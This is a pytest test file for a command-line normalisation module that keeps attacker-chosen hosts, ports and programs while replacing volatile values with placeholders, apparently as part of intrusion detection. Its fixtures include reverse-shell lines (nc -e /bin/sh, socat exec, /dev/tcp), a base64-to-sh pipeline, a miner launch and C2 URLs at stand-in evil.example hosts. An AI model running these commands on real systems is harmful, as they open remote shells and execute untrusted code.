"""Holds what of a command line is its shape: what differs every time goes, what an attacker chooses stays."""

import pytest

from tidewaiter.policy import DEFAULT_POLICY
from tidewaiter.shape import bounded, shape_of, shape_of_host, shape_of_path

UUID = "3f2a9c1b-1111-4222-8333-444455556666"


def shape(line: str) -> str:
    """The shape of a command line that is split at blanks."""
    program, *args = line.split()
    return shape_of(program, args, DEFAULT_POLICY.is_internal)


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("sleep 5", "<n>"),
        ("sleep 0.5s", "<n>s"),
        ("tail -n 100 /var/log/app.log", "-n <n> /var/log/app.log"),
        ("worker --jobs=17 --id=3f2a9c1b77", "--jobs=<n> --id=<hex>"),
        (f"worker {UUID}", "<uuid>"),
        ("backup db-2026-10-03T14:13:44Z.tar.gz", "db-<date>.tar.gz"),
        ("backup --since 2026-10-03", "--since <date>"),
        ("java -Xmx512m -jar /app/app-1.4.2-SNAPSHOT.jar", "-Xmx512m -jar /app/app-<version>.jar"),
        ("cat /opt/jdk-17.0/release", "/opt/jdk-<version>/release"),
        ("cat /srv/tmp.x8Gh2kLmQ9/a", "/srv/<tmp>/a"),
        ("cat /proc/1234/status", "/proc/<n>/status"),
        ("cat part-17.csv", "part-<n>.csv"),
        ("register web-7c9d8f6b5d-x2x4z", "web-<pod>"),
        ("upload 01HZX3K9Q2ABCDEFGH", "<random>"),
        ("at 12:34:56", "<n>:<n>:<n>"),
        ("call getUserByIdAndNameV2", "getUserByIdAndNameV2"),
        ("run python3.11 md5sum amd64 s3", "python3.11 md5sum amd64 s3"),
        ("peer 10.42.3.17 [fd00::12]:9000", "<ip> [<ip>]:9000"),
        ("chrome 120.0.6099.109", "<version>"),
        ("redis-cli -h redis-3.redis.prod.svc.cluster.local", "-h redis-<n>.redis.prod.svc.cluster.local"),
        ("app --password ***", "--password ***"),
    ],
)
def test_what_differs_every_time_goes(line: str, expected: str) -> None:
    """Numbers, names that nobody chose, addresses of pods."""
    assert shape(line) == expected


@pytest.mark.parametrize(
    "kept",
    [
        "agent 203.0.113.7 4444",
        "agent 203.0.113.7:4444",
        "agent --host=203.0.113.7,4444",
        "agent -h203.0.113.7",
        "agent [2001:db8::1]:443 2001:db8::2",
        "agent 127.0.0.1:8080 ::1",
        "agent 169.254.169.254",
        "agent shard-12.evil.example 8443",
        "agent shard-12.evil.example:8443",
        "agent evil-17.zip",
        "agent evil:4444",
        "agent https://c2-17.evil.example:8443/",
        "agent http://3221225985/ http://0x7f.1/",
        "agent --port=4444 --listen-port 4444 -p4444 -p 4444",
        "agent 0xcb007107 0313.0.0161.7 010.0.0.1",
        "agent /dev/tcp/203.0.113.7/4444",
        "nc 3405803783 4444",
        "nc evil 4444 -e /bin/sh",
        "timeout --foreground nc evil7 4444",
        "socat tcp:evil7:4444 exec:sh",
        'python3 -c import(socket);s.connect(("203.0.113.7",4444))',
        "python3 load.py aGVsbG8gd29ybGQ1c2Rm9Q",
        "sh -c echo aGVsbG8gd29ybGQ1c2Rm9Q|base64 -d|sh",
        f"sh -c run {UUID}",
        "sh -c /srv/miner2 --threads=4",
    ],
)
def test_what_an_attacker_chooses_stays(kept: str) -> None:
    """Hosts, ports, public addresses, programs, code."""
    assert shape(kept) == kept.split(" ", 1)[1]


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("sh -c sleep 10; echo done 3", "-c sleep <n>; echo done <n>"),
        ("bash -lc sleep 10 && nc 203.0.113.7 4444; sleep 3", "-lc sleep <n> && nc 203.0.113.7 4444; sleep <n>"),
        ("sh -c curl http://10.42.3.17:8080/jobs/17?try=2", "-c curl http://<ip>:8080/jobs/<n>?try=<n>"),
        ("sh -c dump > /b/2026-10-03.sql", "-c dump > /b/<date>.sql"),
        ("curl -m 10 https://api.example/jobs/17", "-m 10 https://api.example/jobs/<n>"),
        ("curl api-2.example/jobs/17", "api-2.example/jobs/<n>"),
        ("python3 worker.py --job 17", "worker.py --job <n>"),
        ("su app -c sleep 10", "app -c sleep <n>"),
        ("awk NR==17 17", "NR==17 <n>"),
    ],
)
def test_of_scripts_only_what_does_no_harm_goes(line: str, expected: str) -> None:
    """A number that stands alone, a date, what varies in a path."""
    assert shape(line) == expected


def test_no_argument_pretends_to_be_a_placeholder() -> None:
    """`<n>` that somebody typed is another thing than a number."""
    assert shape("cat <n> < 5") == "<<n> << <n>"
    assert shape("cat 5 << 5") == "<n> <<<< <n>"


def test_how_the_arguments_were_split_means_nothing() -> None:
    """Some producers split the command line at blanks."""
    args = ["-c", "sleep 10\necho 3"]
    assert shape_of("/bin/sh", args, DEFAULT_POLICY.is_internal) == shape("sh -c sleep 10 echo 3")


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("/usr/bin/python3.11", "/usr/bin/python3.11"),
        ("/opt/app-1.4.2/bin/run-17", "/opt/app-<version>/bin/run-17"),
        ("/usr/lib/postgresql/15/bin/postgres", "/usr/lib/postgresql/<n>/bin/postgres"),
        ("/srv/go-build1234567/b001/exe/main", "/srv/go-build<n>/b001/exe/main"),
        ("/proc/self/fd/6", "/proc/self/fd/<n>"),
        ("/dev/fd/6", "/dev/fd/<n>"),
        ("/home/fd/6", "/home/fd/6"),
        ("/srv/a b", "/srv/a<blank>b"),
        ("/srv/<n>", "/srv/<<n>"),
        ("curl", "curl"),
    ],
)
def test_the_name_of_a_program_stays(path: str, expected: str) -> None:
    """Of its folders the versions go."""
    assert shape_of_path(path) == expected


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("shard-12.example.com", "shard-12.example.com"),
        ("redis-12.redis.prod.svc.cluster.local", "redis-<n>.redis.prod.svc.cluster.local"),
        ("redis-12.redis.prod.svc", "redis-<n>.redis.prod.svc"),
        ("redis-12.prod.svc.cluster.local", "redis-12.prod.svc.cluster.local"),
        ("10-42-3-17.prod.pod.cluster.local", "<ip>.prod.pod.cluster.local"),
        ("c2-17.a.b.svc.evil.example", "c2-17.a.b.svc.evil.example"),
    ],
)
def test_only_names_that_a_cluster_gives_lose_their_number(name: str, expected: str) -> None:
    """Anybody may have a numbered host elsewhere."""
    assert shape_of_host(name) == expected


def test_what_is_too_long_is_cut_and_stays_different() -> None:
    """It ends in a digest of the whole."""
    one, other = bounded("a" * 5000), bounded("a" * 4999 + "b")
    assert one != other
    assert len(one) == len(other) == 256
    assert one.startswith("aaaa")
    assert one.endswith(">")
    assert bounded("<" * 5000).startswith("<cut:")
    assert bounded("\udc80") == "\\udc80"


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("sh -c date > /run/alive.12345", "-c date > /run/alive.<n>"),
        ("sh -c date >/run/alive.12345;", "-c date >/run/alive.<n>;"),
        ("sh -c rm -rf '/tmp/3f2a9c1b-1111-4222-8333-444455556666'", "-c rm -rf '/tmp/<uuid>'"),
        ("sh -c test -f /proc/12345/status", "-c test -f /proc/<n>/status"),
        ("sh -c pg_dump app 2>>/backup/app-20261003.log", "-c pg_dump app 2>>/backup/app-<n>.log"),
        ("app --name backup-29310000-x2x4z", "--name backup-<pod>"),
        ("java @/tmp/spring-boot-8123456789012345678.args", "@/tmp/spring-boot-<n>.args"),
    ],
)
def test_what_differs_every_time_in_the_files_of_a_script_goes(line: str, expected: str) -> None:
    """A probe that writes its process id into a name is one habit."""
    assert shape(line) == expected


@pytest.mark.parametrize(
    "script",
    [
        "cat < /dev/tcp/16909060/4444",
        "exec 3<>/dev/udp/1.2.3.4/4444",
        "cat <$X/16909060/4444",
        "cat '/dev/tcp'/16909060/4444",
        "cat < /de''v/tcp/16909060/4444",
        "cat /16909060/4444",
        "connect /ip4/203.0.113.7/tcp/4001",
        "connect /dns4/evil12345.example/tcp/4001",
        "cat //host-12345/share",
        "cat /net/host-12345/share",
        "/srv/run-12345",
        "true; /srv/run-12345",
        "true && exec /srv/run-12345",
        "A=1 /srv/run-12345",
        "sh /srv/run-12345",
        "X=/srv/run-12345",
        "$(/srv/run-12345)",
    ],
)
def test_what_a_script_runs_or_connects_to_stays(script: str) -> None:
    """However much like a file it looks."""
    assert shape(f"sh -c {script}").replace("<<", "<") == f"-c {script}"
